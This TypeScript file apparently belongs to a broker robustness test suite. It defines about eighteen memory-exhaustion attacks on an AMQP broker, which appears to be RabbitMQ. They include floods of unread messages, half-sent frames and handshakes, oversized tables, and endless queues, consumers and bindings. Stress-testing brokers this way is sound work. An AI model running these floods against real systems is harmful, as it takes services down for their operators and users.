// Things that AMQP clients do to use a broker's memory up. Each returns when it is over or when the
// broker has ended what it opened.
import { encodeFrame, encodeMethod, encodeTable, FRAME_METHOD } from '../support/raw-codec.ts'
import { body, header, method, publish } from './amqp-bytes.ts'
import type { Attack } from './attack.ts'
import { holdOn, openAll, type Target, Wire } from './wire.ts'

const megabyte = 1_000_000
const longName = 'n'.repeat(240)

/** Whether there is a queue now, with messages if `count` says so. */
async function fill(
  target: Target,
  queue: string,
  { size, count }: { readonly size: number; readonly count: number },
): Promise<boolean> {
  using wire = await Wire.openAmqp(target)
  await wire.send(method(1, 'queue.declare', { queue, durable: true }))
  if (!(await wire.receives('queue.declare-ok'))) return false
  await wire.flood(publish(1, { routingKey: queue }, size), target, count)
  return true
}

async function clean(target: Target, queues: readonly string[]): Promise<void> {
  using wire = await Wire.openAmqp(target)
  for (const queue of queues) await wire.send(method(1, 'queue.delete', { queue }))
  await wire.receives('queue.delete-ok', queues.length)
}

function amqp(target: Target, count: number, channels = 1): Promise<Wire[]> {
  return openAll(count, () => Wire.openAmqp(target, channels))
}

export const amqpAttacks: Readonly<Record<string, Attack>> = {
  /** Returns that are not read. */
  async unreadReturns(target) {
    const wires = await amqp(target, 20)
    for (const wire of wires) wire.turnDeaf()
    const message = publish(1, { routingKey: 'nobody', mandatory: true }, megabyte)
    await Promise.all(wires.map((wire) => wire.flood(message, target, 40)))
    await holdOn(wires, target)
  },

  /** Messages that are asked for and not read. */
  async unreadGets(target) {
    const queue = `gets-${target.below(1e6)}`
    if (!(await fill(target, queue, { size: 2 * megabyte, count: 20 }))) return
    const wires = await amqp(target, 20)
    for (const wire of wires) wire.turnDeaf()
    const get = method(1, 'basic.get', { queue })
    const gets = Buffer.concat(Array.from({ length: 50 }, () => get))
    await Promise.all(wires.map((wire) => wire.flood(gets, target, 20)))
    await holdOn(wires, target)
    await clean(target, [queue])
  },

  /** Small answers that are not read. */
  async unreadAnswers(target) {
    const wires = await amqp(target, 20)
    for (const wire of wires) wire.turnDeaf()
    const ask = method(1, 'exchange.declare', {
      exchange: 'amq.direct',
      type: 'direct',
      passive: true,
    })
    const asks = Buffer.concat(Array.from({ length: 1000 }, () => ask))
    await Promise.all(wires.map((wire) => wire.flood(asks, target, 2000)))
    await holdOn(wires, target)
  },

  /** Parts of large messages on many channels, never finished. */
  async halfBodies(target) {
    const channels = 100
    const wires = await amqp(target, 10, channels)
    const size = 16 * 1024 * 1024
    for (let channel = 1; channel <= channels; channel++) {
      const part = Buffer.concat([
        method(channel, 'basic.publish', { routingKey: 'nobody' }),
        header(channel, size),
        body(channel, 2 * megabyte),
      ])
      await Promise.all(wires.map((wire) => wire.flood(part, target, 1)))
    }
    await holdOn(wires, target)
  },

  /** Large headers on many channels, whose bodies never come. */
  async largeHeaders(target) {
    const channels = 2000
    const wires = await amqp(target, 5, channels)
    const table = encodeTable({ text: ['S', 'x'.repeat(120_000)] })
    const size = Buffer.alloc(4)
    size.writeUInt32BE(table.length)
    const properties = Buffer.concat([Buffer.from([0x20, 0]), size, table])
    for (let channel = 1; channel <= channels; channel++) {
      const part = Buffer.concat([
        method(channel, 'basic.publish', { routingKey: 'nobody' }),
        header(channel, 1000, properties),
      ])
      await Promise.all(wires.map((wire) => wire.flood(part, target, 1)))
    }
    await holdOn(wires, target)
  },

  /** Halves of frames on many connections. */
  async halfFrames(target) {
    const wires = await amqp(target, 500)
    const whole = encodeFrame(FRAME_METHOD, 1, encodeMethod('basic.publish'))
    const half = Buffer.concat([
      Buffer.from([3, 0, 1, 0, 1, 0xff, 0xf8]),
      Buffer.alloc(130_000, 'f'),
    ])
    await Promise.all(wires.map((wire) => wire.send(Buffer.concat([whole, half]))))
    await holdOn(wires, target)
  },

  /** Connections that stop in the middle of the handshake, with much to say about themselves. */
  async halfHandshakes(target) {
    const wires = await openAll(500, () => Wire.open(target, target.amqpPort))
    const fields = Object.fromEntries(
      Array.from({ length: 700 }, (_, index) => [`k${index}`, ['t', true]] as const),
    )
    const startOk = {
      clientProperties: encodeTable(fields),
      mechanism: 'PLAIN',
      response: Buffer.from('\0guest\0guest'),
      locale: 'en_US',
    }
    const hello = Buffer.concat([
      Buffer.from('AMQP\x00\x00\x09\x01', 'latin1'),
      method(0, 'connection.start-ok', startOk),
    ])
    await Promise.all(wires.map((wire) => wire.send(hello)))
    await holdOn(wires, target)
  },

  /** All the channels that a connection may have, on many connections. */
  async channels(target) {
    const wires = await amqp(target, 40, 2047)
    await holdOn(wires, target)
  },

  /** Consumers without end, with long tags and tables. */
  async consumers(target) {
    const queue = `consumed-${target.below(1e6)}`
    if (!(await fill(target, queue, { size: 0, count: 0 }))) return
    const wires = await amqp(target, 10, 10)
    const args = encodeTable({ text: ['S', 'x'.repeat(1000)] })
    const floods = wires.map(async (wire) => {
      for (let count = 0; count < 20_000 && !wire.isClosed && !target.isOver(); count += 100) {
        const consumes = Array.from({ length: 100 }, (_, index) =>
          method(1 + (index % 10), 'basic.consume', {
            queue,
            consumerTag: `${longName}${count + index}`,
            noWait: true,
            arguments: args,
          }),
        )
        await wire.flood(Buffer.concat(consumes), target, 1)
      }
    })
    await Promise.all(floods)
    await holdOn(wires, target)
    await clean(target, [queue])
  },

  /** Queues without end, with long names and large tables; they go with their connections. */
  async queues(target) {
    const wires = await amqp(target, 5)
    const fields = Object.fromEntries(
      Array.from({ length: 2000 }, (_, index) => [`k${index}`, ['t', true]] as const),
    )
    const args = encodeTable(fields)
    const floods = wires.map(async (wire, at) => {
      for (let count = 0; count < 50_000 && !wire.isClosed && !target.isOver(); count += 20) {
        const declares = Array.from({ length: 20 }, (_, index) =>
          method(1, 'queue.declare', {
            queue: `${longName}-${at}-${count + index}`,
            exclusive: true,
            noWait: true,
            arguments: args,
          }),
        )
        await wire.flood(Buffer.concat(declares), target, 1)
      }
    })
    await Promise.all(floods)
    await holdOn(wires, target)
  },

  /** Durable declarations, faster than they can be kept. */
  async durableQueues(target) {
    const wires = await amqp(target, 4, 50)
    const args = encodeTable({ text: ['S', 'x'.repeat(100_000)] })
    const names = new Set<string>()
    const floods = wires.map(async (wire, at) => {
      for (let count = 0; count < 400 && !wire.isClosed && !target.isOver(); count++) {
        const queue = `durable-${at}-${count}-${target.below(1e6)}`
        names.add(queue)
        const channel = 1 + (count % 50)
        const declare = { queue, durable: true, noWait: true, arguments: args }
        await wire.flood(method(channel, 'queue.declare', declare), target, 1)
      }
    })
    await Promise.all(floods)
    for (const wire of wires) wire[Symbol.dispose]()
    await clean(target, [...names])
  },

  /** Bindings without end. */
  async bindings(target) {
    const wires = await amqp(target, 5)
    const floods = wires.map(async (wire, at) => {
      const queue = `bound-${at}-${target.below(1e6)}`
      await wire.send(method(1, 'queue.declare', { queue, exclusive: true }))
      if (!(await wire.receives('queue.declare-ok'))) return
      for (let count = 0; count < 100_000 && !wire.isClosed && !target.isOver(); count += 100) {
        const binds = Array.from({ length: 100 }, (_, index) =>
          method(1, 'queue.bind', {
            queue,
            exchange: index % 2 === 0 ? 'amq.topic' : 'amq.headers',
            routingKey: `${longName.slice(20)}.${at}.${count + index}`,
            noWait: true,
            arguments: encodeTable({ key: ['S', `value ${count + index}`] }),
          }),
        )
        await wire.flood(Buffer.concat(binds), target, 1)
      }
    })
    await Promise.all(floods)
    await holdOn(wires, target)
  },

  /** Transactions that are never committed. */
  async transactions(target) {
    const wires = await amqp(target, 20, 3)
    for (const channel of [1, 2, 3]) {
      const message = publish(channel, { routingKey: 'nobody' }, 200_000)
      await Promise.all(wires.map((wire) => wire.send(method(channel, 'tx.select'))))
      await Promise.all(wires.map((wire) => wire.flood(message, target, 250)))
    }
    await holdOn(wires, target)
  },

  /** Many publishers of large and small messages that nobody consumes. */
  async publishes(target) {
    const queue = `flood-${target.below(1e6)}`
    if (!(await fill(target, queue, { size: 0, count: 0 }))) return
    const wires = await amqp(target, 20)
    const sizes = [0, 100, 10_000, 200_000, 3 * megabyte]
    await Promise.all(
      wires.map((wire, at) => {
        const size = sizes[at % sizes.length] ?? 0
        const message = publish(1, { routingKey: queue }, size)
        return wire.flood(message, target, Math.ceil((10 * megabyte) / (size + 200)))
      }),
    )
    await holdOn(wires, target)
    await clean(target, [queue])
  },

  /** Consumers that read nothing and are well otherwise. */
  async deafConsumers(target) {
    const queue = `deaf-${target.below(1e6)}`
    if (!(await fill(target, queue, { size: 500_000, count: 100 }))) return
    const wires = await amqp(target, 50)
    for (const wire of wires) {
      await wire.send(method(1, 'basic.consume', { queue, noAck: target.below(2) === 0 }))
      wire.turnDeaf()
    }
    const heartbeat = encodeFrame(8, 0, Buffer.alloc(0))
    while (!target.isOver() && wires.some(({ isClosed }) => !isClosed)) {
      await Promise.all(wires.map((wire) => wire.send(heartbeat)))
      await new Promise((resolve) => setTimeout(resolve, 500))
    }
    for (const wire of wires) wire[Symbol.dispose]()
    await clean(target, [queue])
  },

  /** Deliveries that are read and never acked. */
  async unackedDeliveries(target) {
    const queue = `hoarded-${target.below(1e6)}`
    if (!(await fill(target, queue, { size: 0, count: 100_000 }))) return
    const wires = await amqp(target, 5, 20)
    for (const wire of wires) {
      for (let channel = 1; channel <= 20; channel++) {
        await wire.send(method(channel, 'basic.consume', { queue }))
      }
    }
    const get = Buffer.concat(Array.from({ length: 500 }, () => method(1, 'basic.get', { queue })))
    await Promise.all(wires.map((wire) => wire.flood(get, target, 400)))
    await holdOn(wires, target)
    await clean(target, [queue])
  },

  /** Requests for direct answers by a requester that does not read them. */
  async directReplies(target) {
    const queue = 'amq.rabbitmq.reply-to'
    const wires = await amqp(target, 20)
    for (const wire of wires) {
      await wire.send(method(1, 'basic.consume', { queue, noAck: true }))
      wire.turnDeaf()
    }
    const replyTo = Buffer.concat([Buffer.from([0x02, 0, queue.length]), Buffer.from(queue)])
    const message = Buffer.concat([
      method(1, 'basic.publish', { routingKey: 'nobody', mandatory: true }),
      header(1, 500_000, replyTo),
      body(1, 500_000),
    ])
    await Promise.all(wires.map((wire) => wire.flood(message, target, 100)))
    await holdOn(wires, target)
  },

  /** Bytes that mean nothing. */
  async noise(target) {
    while (!target.isOver()) {
      const wires = await openAll(20, () => Wire.openAmqp(target))
      const bytes = Buffer.from(Array.from({ length: 20_000 }, () => target.below(256)))
      await Promise.all(wires.map((wire) => wire.send(bytes)))
      for (const wire of wires) wire[Symbol.dispose]()
      await new Promise((resolve) => setTimeout(resolve, 200))
    }
  },
}
